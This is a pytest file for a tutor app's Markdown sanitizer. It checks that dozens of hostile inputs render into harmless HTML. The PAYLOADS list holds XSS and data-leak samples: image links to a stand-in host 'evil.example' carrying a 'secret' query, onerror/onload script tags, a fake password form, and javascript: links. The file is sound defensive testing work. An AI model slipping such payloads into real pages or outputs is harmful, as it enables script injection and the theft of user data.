"""Hostile Markdown read by an independent parser: whatever the text, nothing in it loads, draws, links or runs."""

import html
import itertools
import re
import time

import pytest
from markdown_it import MarkdownIt

from tests.fake_tutor import ANSWER
from tutor.markdown_safe import LATEX_DELIMITERS, safe

EVIL = "https://evil.example/x"
PAYLOADS = [
    f"![chart]({EVIL}.png?q=secret)",
    f"![]({EVIL})",
    f"![a][ref]\n\n[ref]: {EVIL}.png",
    f"![ref]\n\n[ref]: <{EVIL}> 'title'",
    f"[![a]({EVIL}.png)]({EVIL})",
    f"!\\[a]({EVIL})![b]({EVIL})",
    f"- item\n  ![a]({EVIL})",
    f"> ![a]({EVIL})",
    f"| a | b |\n|---|---|\n| ![a]({EVIL}) | `x` |",
    f"# ![a]({EVIL})",
    f"<img src={EVIL}>",
    f"<IMG SRC='{EVIL}' onerror=alert(1)>",
    f"<img\nsrc={EVIL}>",
    f"</p><img src={EVIL}>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    f"<svg><image href='{EVIL}'/></svg>",
    f"<iframe src={EVIL}></iframe>",
    f"<form action={EVIL}><input name=password type=password><button>Sign in</button></form>",
    f'<div style="background:url({EVIL})">x</div>',
    f"<style>@import '{EVIL}';</style>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<video src={EVIL} autoplay></video><audio src={EVIL}></audio>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!-- --><img src=x onerror=alert(1)>",
    f"<?php ?><img src={EVIL}>",
    f"<![CDATA[<img src={EVIL}>]]>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[click][j]\n\n[j]: javascript:alert(1)",
    f"[click]\n({EVIL})\n\n[click]:\n{EVIL}",
    "- [ ] tick me\n- [x] ticked\n1. [X] too",
    f'```mermaid\nflowchart LR\n  A@{{ img: "{EVIL}.png" }}\n  click A href "{EVIL}"\n```',
    f"``` mermaid\ngraph TD; A[<img src={EVIL}>]\n```",
    f"`\n<img src={EVIL}>`",
    f"` unpaired\nthen `<img src={EVIL}>`",
    f"| `a | <img src={EVIL}> ` |\n|---|---|\n| `b | ![x]({EVIL}) ` |",
    f"- a\n\n  ```\n<img src={EVIL}>\n  ```",
    f"> ```\n<img src={EVIL}>\n> ```",
    f"- ```\n<img src={EVIL}>",
    f"~~~\n```\n~~~\n<img src={EVIL}>\n```",
    f"````\n```\n<img src={EVIL}>\n````\n<img src={EVIL}>",
    f"    indented\n<img src={EVIL}>",
    f"$\n```\n$\n<img src={EVIL}>\n```",
    f"$$\n```\n$$\n<img src={EVIL}>\n```",
    f"\\( `\\) <img src={EVIL}> `",
    f"$$ ` $$ <img src={EVIL}> `",
    f"`$$` <img src={EVIL}> `$$`",
    f"$$\\href{{javascript:alert(1)}}{{x}}\\includegraphics{{{EVIL}}}$$",
    f"$x$<img src={EVIL}>$y$",
    f"$$<img src={EVIL}>$$",
    "%%%LATEX_BLOCK_0%%% $$a$$ ![a](%%%LATEX_BLOCK_0%%%) [b](%%%LATEX_BLOCK_0%%%)",
    f"\\`<img src={EVIL}>\\`",
    f"\\\\`<img src={EVIL}>\\\\`",
    f"`` ` <img src={EVIL}> ``<img src={EVIL}>",
    f"</code><img src={EVIL}>`</code><img src={EVIL}>`",
    f"```</code></pre><img src={EVIL}>\nx\n```",
    f"```\n</code></pre>$$<img src={EVIL}>\n```",
    f'```py"><img src={EVIL}>\nx\n```',
    f"a\r<img src={EVIL}>\r\n![a]({EVIL})",
    f"!\0[a](\0{EVIL})<\0img src={EVIL}>",
    f"[![a]({EVIL})](x)]({EVIL})",
    f"<a href={EVIL} ping={EVIL}>x</a>",
    f"[^1]\n\n[^1]: ![a]({EVIL})",
    f"<img src={EVIL}",
    f"```\nnever closed <img src={EVIL}>\n![a]({EVIL})",
    "x" * 5000 + f"![a]({EVIL})" + "`" * 501 + "$" * 501,
]
HARMLESS_TAGS = {"code", "pre"}


def as_the_page_reads(text: str) -> str:
    """HTML of `text`: formulas are taken out first and put back escaped, as the page's renderer does it."""
    kept = []
    for delimiter in LATEX_DELIMITERS:
        pattern = re.escape(delimiter["left"]) + r"([\s\S]+?)" + re.escape(delimiter["right"])
        text = re.sub(pattern, lambda m: kept.append(m[0]) or f"%%%LATEX_BLOCK_{len(kept) - 1}%%%", text)
    rendered = MarkdownIt("commonmark", {"html": True, "breaks": True}).enable(["table", "strikethrough"]).render(text)
    return re.sub(r"%%%LATEX_BLOCK_(\d+)%%%", lambda m: html.escape(dict(enumerate(kept)).get(int(m[1]), "")), rendered)


def tags(rendered: str) -> set[str]:
    return {name.lower() for name in re.findall(r"<\s*/?\s*([a-zA-Z!?][\w-]*)", rendered)}


MARKDOWN_TAGS = {"p", "br", "em", "strong", "ul", "ol", "li", "blockquote", "table", "thead", "tbody", "tr", "th", "td",
                 "h1", "h2", "h3", "hr"} | HARMLESS_TAGS  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_text_leaves_only_harmless_tags_without_attributes(payload):
    rendered = as_the_page_reads(safe(payload))
    assert tags(rendered) <= MARKDOWN_TAGS
    attributes = re.findall(r"<\w+\s+([^>]*)>", rendered)
    assert all(re.fullmatch(r'class="language-[\w+#-]+"|start="\d+"|/', text) for text in attributes), attributes
    assert "language-mermaid" not in rendered


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_beginning_of_a_hostile_text_is_harmless_too(payload):
    for end in range(0, min(len(payload), 160), 7):
        assert tags(as_the_page_reads(safe(payload[:end]))) <= MARKDOWN_TAGS


def test_two_hostile_texts_in_a_row_do_not_undo_each_other():
    for first, second in itertools.pairwise(PAYLOADS):
        for joint in ("", "\n", "\n\n"):
            assert tags(as_the_page_reads(safe(first + joint + second))) <= MARKDOWN_TAGS, (first, second)


def test_formulas_code_and_tables_survive():
    text = safe(ANSWER)
    rendered = as_the_page_reads(text)
    assert "\\(Q\\)" in text
    assert "\\frac{QK^\\top}{\\sqrt{d_k}}" in text
    assert "<table>" in rendered
    assert 'class="language-python"' in rendered
    assert "<strong>look at every other position</strong>" in rendered


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It costs $5, then $6.", "It costs $5, then $6."),
        ("$a < b$ and $c<d$", "\\(a &lt; b\\) and \\(c&lt;d\\)"),
        ("\\[ x^2 \\]", "$$\nx^2\n$$"),
        ("if a < b then [CLS]", "if a < b then [CLS]"),
        ("the <unk> token", "the &lt;unk> token"),
        ("call `f(x)` now", "call `f(x)` now"),
        ("call `f<T>` now", "call <code>f&#60;T&#62;</code> now"),
        ("see [the paper](https://a.example/p)", "see [the paper] (https://a.example/p)"),
        ("- [ ] read", "- ☐ read"),
        ("1. one\n2. two", "1. one\n2. two"),
        ("", ""),
    ],
)  # fmt: skip
def test_ordinary_text_stays_as_it_is_meant(text, shown):
    assert safe(text) == shown


def test_shell_code_with_dollars_stays_code():
    rendered = as_the_page_reads(safe("```bash\necho $HOME $PATH <in\n```"))
    assert html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip() == "echo $HOME $PATH <in"
    assert "<pre>" in rendered


def test_an_answer_that_is_still_being_written_closes_its_code_block():
    assert safe("```python\nx = 1").rstrip().endswith("```")


@pytest.mark.parametrize("unit", ["`", "$", "\\(", "$$ a ", "`` ` ", "[](", "<a", "```\n", "$a `b ", "- ", "\\[ x "])
def test_a_long_text_of_delimiters_does_not_hold_up_the_page(unit):
    start = time.process_time()
    safe(unit * 4000)
    assert time.process_time() - start < 2
